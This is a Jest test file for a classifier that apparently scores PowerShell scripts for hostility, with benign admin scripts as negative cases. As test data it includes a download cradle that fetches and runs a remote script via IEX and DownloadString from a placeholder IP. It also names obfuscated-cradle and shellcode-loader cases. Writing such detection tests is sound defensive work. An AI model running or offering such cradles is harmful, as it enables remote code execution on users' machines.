import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { readFile } from 'node:fs/promises';
import { readModelManifest } from '../../../classifiers/model-manifest.ts';
import { createScriptClassifier, type ScriptClassifier } from '../../../classifiers/script/classifier.ts';
import { sha256Hex } from '../../../contracts/canonical.ts';
import type { Report } from '../../../contracts/report.ts';
import { loadModel } from '../../../platform/onnx/model.ts';
import { readGoldenCases, type GoldenCase } from '../golden-cases.ts';

const folder = new URL('../../../classifiers/script/', import.meta.url);
let classifier: ScriptClassifier;
let cases: readonly GoldenCase[];
beforeAll(async () => {
  classifier = await createScriptClassifier(loadModel);
  cases = await readGoldenCases('script');
});
afterAll(() => classifier.close());

function reportOf(text: string, parts: Partial<Report> = {}): Report {
  const [first] = cases;
  if (first === undefined) throw new Error('there are golden cases');
  return { ...first.report, artifact: { kind: 'script', text }, ...parts };
}

async function scoreOf(report: Report, evidence: 'content' | 'testimony' = 'content') {
  const [outcome] = await classifier.score([{ report, evidence }]);
  if (outcome === undefined) throw new Error('every input has an outcome');
  return outcome;
}

async function blocks(text: string): Promise<boolean> {
  const outcome = await scoreOf(reportOf(text));
  return outcome.outcome === 'score' && outcome.probability >= classifier.profile.threshold;
}

const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')";
const ordinary = Array.from(
  { length: 400 },
  (_, n) => `Get-Printer -Name 'Floor ${n}' | Select-Object Name, DriverName, PortName # ${n}`,
).join('\n');

describe('the script classifier', () => {
  test('the manifest names the model beside it', async () => {
    const { model } = await readModelManifest(new URL('manifest.json', folder));
    const bytes = await readFile(new URL(model.file, folder));
    expect([sha256Hex(bytes), bytes.length]).toEqual([model.sha256, model.sizeBytes]);
  });

  test('golden reports score what the training environment computed, one by one and together', async () => {
    const inputs = cases.map(({ report }) => ({ report, evidence: 'content' as const }));
    const together = await classifier.score(inputs);
    for (const [index, { report, expected }] of cases.entries()) {
      const alone = await scoreOf(report);
      const outcome = together[index];
      if (alone.outcome !== 'score' || outcome?.outcome !== 'score')
        throw new Error('every golden report is scored');
      expect(Math.abs(alone.probability - outcome.probability)).toBeLessThanOrEqual(1e-6);
      expect(Math.abs(outcome.probability - expected.probability)).toBeLessThanOrEqual(1e-5);
    }
  });

  test('what is hostile in the golden reports is blocked, and nothing else', async () => {
    const hostile = cases.filter(({ expected }) => expected.probability >= classifier.profile.threshold);
    expect(hostile.map(({ name }) => name)).toEqual([
      'a download cradle',
      'the same cradle behind back-ticks, joined literals and random case',
      'a download that is started',
      'a loader of position-independent code',
      'a script that starts another one encoded',
      'the cradle among ordinary work',
    ]);
  });

  test('the worst window wins, and the evidence names its lines', async () => {
    const text = `${ordinary}\n${cradle}\n${ordinary}`;
    const outcome = await scoreOf(reportOf(text));
    if (outcome.outcome !== 'score') throw new Error('it is scored');
    expect(outcome.probability).toBeGreaterThanOrEqual(classifier.profile.threshold);
    const [{ title, content, tactic } = { title: '', content: false, tactic: undefined }] = outcome.evidence;
    const [, from, to] = /lines (\d+)–(\d+)/.exec(title) ?? [];
    expect(Number(from) <= 401 && Number(to) >= 401 && Number(to) - Number(from) < 60).toBe(true);
    expect([content, tactic]).toEqual([true, 'command-and-control']);
    expect(await blocks(ordinary)).toBe(false);
  });

  test('comments around it, before and after, change nothing', async () => {
    const comment = '# The settings of the printer are read and written to the report of the month.\n'.repeat(
      500,
    );
    const [bare, padded] = [
      await scoreOf(reportOf(cradle)),
      await scoreOf(reportOf(comment + cradle + '\n' + comment)),
    ];
    if (bare.outcome !== 'score' || padded.outcome !== 'score') throw new Error('both are scored');
    expect(Math.abs(bare.probability - padded.probability)).toBeLessThanOrEqual(1e-6);
  });

  test('a byte order mark and the NULs of a wrong decoding change nothing', async () => {
    const scores = await Promise.all(
      [cradle, `\uFEFF${cradle}`, Array.from(cradle, (letter) => `${letter}\0`).join('')].map((text) =>
        scoreOf(reportOf(text)),
      ),
    );
    const [first, ...others] = scores.map((outcome) =>
      outcome.outcome === 'score' ? outcome.probability : -1,
    );
    for (const other of others) expect(Math.abs(other - (first ?? 0))).toBeLessThanOrEqual(1e-6);
  });

  test('only text that the service vouches for is content', async () => {
    expect(await scoreOf(reportOf(cradle), 'testimony')).toMatchObject({
      contentProbability: null,
      evidence: [{ content: false }],
    });
    const vouched = await scoreOf(reportOf(cradle));
    if (vouched.outcome !== 'score') throw new Error('it is scored');
    expect(vouched.contentProbability).toBe(vouched.probability);
  });

  test.each([
    ['no text', ''],
    ['blanks', ' \r\n\t '],
    ['a single word', 'prompt'],
    ['a shell asking for a state', '$global:?'],
    [
      'VBScript',
      'Option Explicit\nDim shell\nSet shell = CreateObject("WScript.Shell")\nshell.Run "calc.exe", 0, False',
    ],
    ['JScript', 'var s = new ActiveXObject("WScript.Shell"); var x = 1; s.Run("calc.exe");'],
    ['a macro', 'Private Sub Document_Open()\nDim s As String\ns = "calc"\nShell s, vbHide\nEnd Sub'],
    ['a batch file', '@echo off\nsetlocal\ncopy %1 %2\nendlocal'],
  ])('%s is abstained from', async (_, text) => {
    expect((await scoreOf(reportOf(text))).outcome).toBe('abstained');
  });

  test('a name hides nothing: only a text that is next to nothing of PowerShell is believed to be of another engine', async () => {
    const hostile = '$c = New-Object Net.WebClient; IEX $c.DownloadString("http://203.0.113.7/a.ps1")';
    expect((await scoreOf(reportOf(hostile, { file: { name: 'a.vbs' } }))).outcome).toBe('score');
    expect((await scoreOf(reportOf('call one two three four', { file: { name: 'a.vbs' } }))).outcome).toBe(
      'abstained',
    );
  });

  test('equal texts share one inference, whoever reports them', () => {
    const key = (report: Report, evidence: 'content' | 'testimony' = 'content') =>
      classifier.cacheKey({ report, evidence });
    expect(key(reportOf(cradle))).toBe(key(reportOf(cradle, { process: { executable: 'C:\\a.exe' } })));
    expect(key(reportOf(cradle))).not.toBe(key(reportOf(`${cradle} `)));
    expect(key(reportOf(cradle))).not.toBe(key(reportOf(cradle), 'testimony'));
  });
});

describe('ordinary work that looks hostile', () => {
  test.each([
    '$wc = New-Object System.Net.WebClient\n$wc.DownloadFile("https://example.org/tools/setup.msi", "C:\\Temp\\setup.msi")\nGet-FileHash C:\\Temp\\setup.msi',
    'Start-Process powershell -Verb RunAs -ArgumentList "-NoProfile -File C:\\scripts\\deploy.ps1"',
    '[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:SETTINGS)) | ConvertFrom-Json',
    'Get-MpComputerStatus; Get-MpPreference | Select-Object ExclusionPath; Update-MpSignature',
    'Invoke-Command -ComputerName web01, web02 -ScriptBlock { Restart-Service W3SVC -Force } -Credential $cred',
    'Add-Type -Name W -Namespace N -MemberDefinition \'[DllImport("user32.dll")] public static extern bool ShowWindow(IntPtr h, int n);\'',
    'Get-WinEvent -FilterHashtable @{ LogName = "Security"; Id = 4625 } | Group-Object { $_.Properties[5].Value }',
    'Set-ExecutionPolicy RemoteSigned -Scope CurrentUser -Force',
  ])('is not blocked: %s', async (text) => {
    expect(await blocks(text)).toBe(false);
  });
});
